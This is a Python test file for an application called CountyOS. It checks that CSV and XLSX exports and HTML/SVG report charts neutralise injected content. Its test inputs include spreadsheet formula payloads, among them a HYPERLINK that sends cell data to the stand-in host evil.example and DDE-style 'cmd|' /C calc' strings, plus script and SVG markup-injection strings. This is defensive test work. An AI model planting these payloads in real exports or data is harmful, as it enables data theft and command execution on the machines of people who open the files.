"""Attacks through what CountyOS exports: spreadsheet formulas planted in names and titles (CSV and
XLSX, every export route), markup planted in the PDF report's chart."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook
from sqlalchemy import update

from countyos.cases.models import Case
from countyos.core import tabular
from countyos.ioc.models import ReportKind
from countyos.ioc.service import reports
from countyos.ioc.service.scope import Scope
from countyos.org.models import Department
from countyos.sensing.models import Thing
from tests.factories import csrf_from, login

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _xlsx_strings(content: bytes) -> list[tuple[str, object]]:
    """(data_type, value) of every non-empty cell of every sheet."""
    wb = load_workbook(io.BytesIO(content))
    return [
        (c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    ]


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [v for row in csv.reader(io.StringIO(text)) for v in row]


def _assert_neutral_xlsx(content: bytes, payload: str) -> None:
    cells = _xlsx_strings(content)
    assert not [c for c in cells if c[0] == "f"], "a cell became a formula"
    hits = [v for t, v in cells if isinstance(v, str) and payload in v]
    assert hits, f"{payload!r} is not in the export"
    for v in hits:
        if v.lstrip("'") == payload:
            assert v == "'" + payload


def _assert_neutral_csv(content: bytes, payload: str) -> None:
    cells = _csv_cells(content)
    assert "'" + payload in cells
    assert payload not in cells


# --- the one place every export goes through ---------------------------------------------------


def test_tabular_neutralises_formula_starts_and_keeps_numbers_numbers():
    at = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
    row = [*PAYLOADS, -5, -2.5, 0, "ok", "a=b", None, at, {"k": "=1"}]
    headers = [f"h{i}" for i in range(len(row))]
    ws = load_workbook(io.BytesIO(tabular.to_xlsx(headers, [row]))).active
    cells = next(ws.iter_rows(min_row=2, max_row=2))
    for c, payload in zip(cells, PAYLOADS, strict=False):
        # (XML reads a carriage return back as a line feed)
        assert c.data_type == "s" and c.value.replace("\r", "\n") == ("'" + payload).replace("\r", "\n")
    assert [(c.data_type, c.value) for c in cells[6:11]] == [("n", -5), ("n", -2.5), ("n", 0), ("s", "ok"),
                                                                ("s", "a=b")]  # fmt: skip
    assert cells[11].value is None and cells[12].value == datetime(2026, 3, 1, 8, 0)
    assert cells[13].value == "{'k': '=1'}"
    got = list(csv.reader(io.StringIO(tabular.to_csv(headers, [row]).decode("utf-8-sig"))))[1]
    assert got[:6] == ["'" + p for p in PAYLOADS]
    assert got[6:11] == ["-5", "-2.5", "0", "ok", "a=b"]
    # a header is a cell too
    assert _csv_cells(tabular.to_csv(["=1+1"], [])) == ["'=1+1"]


def test_control_characters_do_not_break_an_xlsx_export():
    content = tabular.to_xlsx(["name"], [["bad\x01name\x1f"], ["=x\x0b"]])
    ws = load_workbook(io.BytesIO(content)).active
    assert [ws["A2"].value, ws["A3"].value] == ["badname", "'=x"]


# --- the routes --------------------------------------------------------------------------------


def test_a_formula_user_name_in_a_failed_login_is_text_in_the_audit_exports(client, db, world):
    page = client.get("/login")
    r = client.post(
        "/login",
        data={"username": FORMULA, "password": "wrong", "csrf_token": csrf_from(page.text), "next": ""},
        follow_redirects=False,
    )
    assert r.status_code in (200, 400, 401, 422)
    client.cookies.clear()
    login(client, world.auditadmin)
    x = client.get("/api/v1/audit/export", params={"format": "xlsx"})
    assert x.status_code == 200
    _assert_neutral_xlsx(x.content, FORMULA)
    c = client.get("/api/v1/audit/export", params={"format": "csv"})
    assert c.status_code == 200
    _assert_neutral_csv(c.content, FORMULA)


def test_case_titles_and_thing_names_are_text_in_the_ioc_list_exports(client, db, world):
    with db.unit_of_work() as s:
        s.execute(update(Case).where(Case.id == world.case_works).values(title="@SUM(1+1)*cmd|'/C calc'!A0"))
        s.execute(update(Thing).where(Thing.id == world.gauge).values(name="-1+cmd|'/C calc'!A0"))
    login(client, world.leader)
    for fmt in ("xlsx", "csv"):
        r = client.get(f"/ioc/list.{fmt}", params={"source": "cases", "measure": "open", "period": "30d"})
        assert r.status_code == 200
        check = _assert_neutral_xlsx if fmt == "xlsx" else _assert_neutral_csv
        check(r.content, "@SUM(1+1)*cmd|'/C calc'!A0")
        r = client.get(f"/ioc/list.{fmt}", params={"source": "devices", "measure": "devices", "period": "30d"})
        assert r.status_code == 200
        check(r.content, "-1+cmd|'/C calc'!A0")


def test_a_formula_department_name_is_text_in_the_evaluation_export(client, db, world):
    with db.unit_of_work() as s:
        s.execute(update(Department).where(Department.id == world.works).values(name='=1+HYPERLINK("x")'))
    login(client, world.leader)
    r = client.get("/cases/evaluation/export", params={"subject": "department"})
    assert r.status_code == 200
    _assert_neutral_xlsx(r.content, '=1+HYPERLINK("x")')


def _report(category: str) -> reports.ReportData:
    scope = Scope("custom", date(2026, 3, 1), date(2026, 3, 1))
    data = reports.ReportData(ReportKind.DAILY, scope, scope.previous(), datetime(2026, 3, 2, tzinfo=UTC), "遂昌县")
    data.categories = [(category, 3, 1)]
    data.days = [("2026-03-01", 3)]
    return data


def test_a_formula_category_name_is_text_in_the_report_workbook():
    content = reports.render_xlsx(_report('=HYPERLINK("http://evil.example")'))
    _assert_neutral_xlsx(content, '=HYPERLINK("http://evil.example")')


def test_markup_in_a_category_name_is_escaped_in_the_report_chart():
    html = reports.render_html(_report("<script>alert(1)</script>"))
    assert "&lt;scrip" in html and "<scrip" not in html
    html = reports.render_html(_report("</text><image href='x'/>"))
    assert "&lt;/text" in html and html.count("<text") == html.count("</text>")
    svg = reports.bar_svg([("</text><script>alert(1)</script>", 3), ('a"b&c', 2)])
    assert "&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in svg and "<script" not in svg
    assert "a&quot;b&amp;c" in svg
